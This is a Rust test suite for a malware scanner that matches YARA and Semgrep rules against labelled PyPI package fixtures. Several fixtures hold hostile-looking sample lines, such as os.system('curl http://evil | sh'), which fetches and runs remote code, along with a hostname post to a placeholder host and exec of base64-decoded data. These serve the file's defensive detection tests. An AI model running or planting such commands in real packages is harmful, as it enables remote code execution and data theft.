use super::*;
use crate::corpus::Ecosystem;
use crate::rule::escape_yara_text;
use crate::validator::{check_semgrep, compile_yara};
use proptest::prelude::*;

fn yara(text: &str) -> Rule {
    compile_yara(text).unwrap_or_else(|e| panic!("{e:?}\n{text}"))
}

fn file(path: &str, content: &str) -> SourceFile {
    SourceFile::from_bytes(path, content.as_bytes())
}

fn pkg(name: &str, label: Label, content: &str) -> PackageRecord {
    PackageRecord::from_files(
        name,
        Ecosystem::Pypi,
        label,
        vec![file("setup.py", content)],
    )
}

#[test]
fn gethostname_offset() {
    let rule = yara(
        "rule host {\n meta:\n  a = 1\n strings:\n  $h = \"gethostname\"\n condition:\n  $h\n}\n",
    );
    let f = file("setup.py", "import socket\nhost = socket.gethostname()\n");
    let hits = scan_file(&[rule], "p", &f);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].offsets, [28]);
    assert!(!hits[0].approximate);
}

#[test]
fn all_of_them_needs_every_string() {
    let rule = yara("rule r {\n meta:\n  a = 1\n strings:\n  $a = \"getcwd\"\n  $b = \"getuser\"\n condition:\n  all of them\n}\n");
    assert!(scan_file(
        std::slice::from_ref(&rule),
        "p",
        &file("a.py", "os.getcwd()\n")
    )
    .is_empty());
    let both = scan_file(
        &[rule],
        "p",
        &file("a.py", "os.getcwd(); getpass.getuser()\n"),
    );
    assert_eq!(both[0].offsets, [3, 21]);
}

#[test]
fn modifiers_and_hex() {
    let rule = yara(concat!(
        "rule m {\n meta:\n  a = 1\n strings:\n",
        "  $n = \"EVAL\" nocase fullword\n",
        "  $x = { 65 78 ?? 63 }\n",
        "  $r = /b64decode\\(['\"]/\n",
        " condition:\n  #n >= 2 and $x and $r\n}\n"
    ));
    let src = "eval(x); Eval(y); medieval\nexec(base64.b64decode('a'))\n";
    let hits = scan_file(&[rule], "p", &file("a.py", src));
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].offsets, [0, 9, 27, 39]);
}

#[test]
fn negated_condition_matches_without_offsets() {
    let rule = yara("rule r {\n meta:\n  a = 1\n strings:\n  $a = \"zzz\"\n condition:\n  not $a and filesize < 100\n}\n");
    let hits = scan_file(&[rule], "p", &file("a.py", "print(1)\n"));
    assert_eq!(hits.len(), 1);
    assert!(hits[0].offsets.is_empty());
}

#[test]
fn timeout_is_recorded_not_fatal() {
    let rule = yara("rule r {\n meta:\n  a = 1\n strings:\n  $a = \"x\"\n condition:\n  $a\n}\n");
    let m = Matcher::new(
        &[rule],
        MatcherConfig {
            budget_ms: 0,
            semgrep: None,
        },
    );
    let report = m.scan_corpus(&[pkg("p", Label::Malicious, "xxx")], 1);
    assert!(report.matches.is_empty());
    assert_eq!(report.issues.len(), 1);
    assert_eq!(report.issues[0].kind, IssueKind::EngineTimeout);
    assert!(!report.verdicts[0].predicted);
}

fn semgrep_rule(id: &str, pattern: &str) -> Rule {
    let text = format!(
        "rules:\n  - id: {id}\n    message: m\n    languages: [python]\n    severity: ERROR\n    pattern: {pattern}\n"
    );
    let mut r = check_semgrep(&text).unwrap();
    r.name = id.to_owned();
    r
}

fn fixture() -> (Vec<Rule>, Vec<PackageRecord>) {
    let rules = vec![
        yara("rule R1 {\n meta:\n  a = 1\n strings:\n  $a = \"gethostname\"\n condition:\n  $a\n}\n"),
        yara("rule R2 {\n meta:\n  a = 1\n strings:\n  $a = \"b64decode\"\n  $b = \"exec(\"\n condition:\n  all of them\n}\n"),
        yara("rule R3 {\n meta:\n  a = 1\n strings:\n  $a = /os\\.system\\(/\n  $b = \"curl\" nocase\n condition:\n  $a and $b\n}\n"),
        semgrep_rule("R4", "requests.$M(...)"),
    ];
    let packages = vec![
        pkg(
            "p-exfil",
            Label::Malicious,
            "import socket, requests\nrequests.post('http://x', data=socket.gethostname())\n",
        ),
        pkg(
            "p-b64",
            Label::Malicious,
            "import base64\nexec(base64.b64decode('aGk='))\n",
        ),
        pkg(
            "p-shell",
            Label::Malicious,
            "import os\nos.system('curl http://evil | sh')\n",
        ),
        pkg(
            "p-both",
            Label::Malicious,
            "import base64, os\nos.system(base64.b64decode('Y3VybA=='))  # Curl\n",
        ),
        pkg(
            "l-http",
            Label::Legitimate,
            "import requests\nrequests.get('https://pypi.org')\n",
        ),
        pkg(
            "l-util",
            Label::Legitimate,
            "def add(a, b):\n    return a + b\n",
        ),
    ];
    (rules, packages)
}

#[test]
fn fixture_verdict_table() {
    let (rules, packages) = fixture();
    let report = scan_corpus(&rules, &packages, 1);
    let table: Vec<(&str, Vec<&str>, bool)> = report
        .verdicts
        .iter()
        .map(|v| {
            (
                v.package.as_str(),
                v.matched_rules.iter().map(String::as_str).collect(),
                v.predicted,
            )
        })
        .collect();
    assert_eq!(
        table,
        [
            ("l-http", vec!["R4"], true),
            ("l-util", vec![], false),
            ("p-b64", vec!["R2"], true),
            ("p-both", vec!["R3"], true),
            ("p-exfil", vec!["R1", "R4"], true),
            ("p-shell", vec!["R3"], true),
        ]
    );
    assert!(report.approximate);
    let r4 = report.tallies.iter().find(|t| t.rule_id == "R4").unwrap();
    assert_eq!(r4.malicious.len(), 1);
    assert_eq!(r4.legitimate.len(), 1);
    let at2: Vec<bool> = report.verdicts_at(2).iter().map(|v| v.predicted).collect();
    assert_eq!(at2, [false, false, false, false, true, false]);
    let r4_match = report
        .matches
        .iter()
        .find(|m| m.rule_id == "R4" && m.package == "p-exfil")
        .unwrap();
    assert_eq!(r4_match.offsets, [2]);
}

#[test]
fn zero_matches_is_benign() {
    let (rules, _) = fixture();
    let report = scan_corpus(&rules, &[pkg("clean", Label::Legitimate, "x = 1\n")], 1);
    assert_eq!(report.verdicts[0].matched_count, 0);
    assert!(!report.verdicts[0].predicted);
}

#[test]
fn nine_semgrep_rules_at_threshold_nine() {
    let rules: Vec<Rule> = (0..9)
        .map(|i| semgrep_rule(&format!("s{i}"), "os.system(...)"))
        .collect();
    let packages = [pkg("p", Label::Malicious, "import os\nos.system('id')\n")];
    let report = scan_corpus(&rules, &packages, 9);
    assert_eq!(report.verdicts[0].matched_count, 9);
    assert!(report.verdicts[0].predicted);
    assert!(!report.verdicts_at(10)[0].predicted);
}

#[test]
fn duplicate_names_are_disambiguated() {
    let r = yara("rule R {\n meta:\n  a = 1\n strings:\n  $a = \"x\"\n condition:\n  $a\n}\n");
    let m = Matcher::new(&[r.clone(), r], MatcherConfig::default());
    assert_eq!(m.rule_ids().collect::<Vec<_>>(), ["R", "R_2"]);
}

#[test]
fn report_is_deterministic_and_jsonl() {
    let (rules, packages) = fixture();
    let a = serde_json::to_string(&scan_corpus(&rules, &packages, 1)).unwrap();
    let mut reversed = packages.clone();
    reversed.reverse();
    let b = serde_json::to_string(&scan_corpus(&rules, &reversed, 1)).unwrap();
    assert_eq!(a, b);
    let mut buf = Vec::new();
    scan_corpus(&rules, &packages, 1)
        .write_findings(&mut buf)
        .unwrap();
    let lines: Vec<&str> = std::str::from_utf8(&buf).unwrap().lines().collect();
    assert_eq!(lines.len(), 6);
    assert!(lines
        .iter()
        .all(|l| serde_json::from_str::<MatchResult>(l).is_ok()));
}

#[test]
fn external_semgrep_failure_is_an_issue() {
    let m = Matcher::new(
        &[semgrep_rule("s", "x")],
        MatcherConfig {
            budget_ms: DEFAULT_BUDGET_MS,
            semgrep: Some(ExternalTool {
                program: "sh".into(),
                args: vec!["-c".into(), "echo nope".into()],
            }),
        },
    );
    let report = m.scan_corpus(&[pkg("p", Label::Malicious, "x\n")], 1);
    assert_eq!(report.issues[0].kind, IssueKind::ExternalFailure);
    assert!(!report.approximate);
}

/// Independent literal search: every position, every byte compared.
fn naive_offsets(
    hay: &[u8],
    needle: &[u8],
    nocase: bool,
    wide: bool,
    ascii: bool,
    fullword: bool,
) -> BTreeSet<usize> {
    let mut variants = Vec::new();
    if ascii || !wide {
        variants.push(needle.to_vec());
    }
    if wide {
        let mut w = Vec::new();
        for &b in needle {
            w.push(b);
            w.push(0);
        }
        variants.push(w);
    }
    let mut out = BTreeSet::new();
    for v in variants {
        if v.len() > hay.len() {
            continue;
        }
        for i in 0..=hay.len() - v.len() {
            let eq = (0..v.len()).all(|k| {
                if nocase {
                    hay[i + k].eq_ignore_ascii_case(&v[k])
                } else {
                    hay[i + k] == v[k]
                }
            });
            let alnum = |j: usize| hay[j].is_ascii_alphanumeric();
            let bounded =
                (i == 0 || !alnum(i - 1)) && (i + v.len() == hay.len() || !alnum(i + v.len()));
            if eq && (!fullword || bounded) {
                out.insert(i);
            }
        }
    }
    out
}

fn literal_rule(i: usize, needle: &[u8], mods: (bool, bool, bool, bool)) -> Rule {
    let (nocase, wide, ascii, fullword) = mods;
    let mut m = String::new();
    for (on, name) in [
        (nocase, "nocase"),
        (wide, "wide"),
        (ascii, "ascii"),
        (fullword, "fullword"),
    ] {
        if on {
            m.push(' ');
            m.push_str(name);
        }
    }
    yara(&format!(
        "rule r{i} {{\n meta:\n  a = 1\n strings:\n  $s = \"{}\"{m}\n condition:\n  $s\n}}\n",
        escape_yara_text(needle)
    ))
}

proptest! {
    #[test]
    fn literal_matches_equal_naive_search(
        hay in proptest::collection::vec(prop::sample::select(b"abAB _\0".to_vec()), 0..1024),
        needles in proptest::collection::vec(
            (proptest::collection::vec(prop::sample::select(b"abAB_".to_vec()), 1..4),
             any::<(bool, bool, bool, bool)>()),
            10,
        ),
    ) {
        let text = String::from_utf8(hay.clone()).unwrap();
        let f = file("f.py", &text);
        for (i, (needle, mods)) in needles.iter().enumerate() {
            let rule = literal_rule(i, needle, *mods);
            let got: BTreeSet<usize> = scan_file(&[rule], "p", &f)
                .into_iter()
                .flat_map(|m| m.offsets)
                .collect();
            let (nocase, wide, ascii, fullword) = *mods;
            prop_assert_eq!(got, naive_offsets(&hay, needle, nocase, wide, ascii, fullword));
        }
    }

    #[test]
    fn raising_threshold_never_adds_positives(counts in proptest::collection::vec(0usize..6, 1..20), t in 0usize..8) {
        let verdicts: Vec<PackageVerdict> = counts
            .iter()
            .enumerate()
            .map(|(i, &c)| {
                let rules = (0..c).map(|r| format!("r{r}")).collect();
                PackageVerdict::new(format!("p{i}"), rules, Label::Unknown, t)
            })
            .collect();
        let report = ScanReport {
            threshold: t,
            verdicts,
            tallies: Vec::new(),
            matches: Vec::new(),
            issues: Vec::new(),
            approximate: false,
        };
        for (lo, hi) in report.verdicts_at(t).iter().zip(report.verdicts_at(t + 1)) {
            prop_assert!(lo.predicted || !hi.predicted);
            prop_assert_eq!(lo.matched_count, lo.matched_rules.len());
        }
    }
}
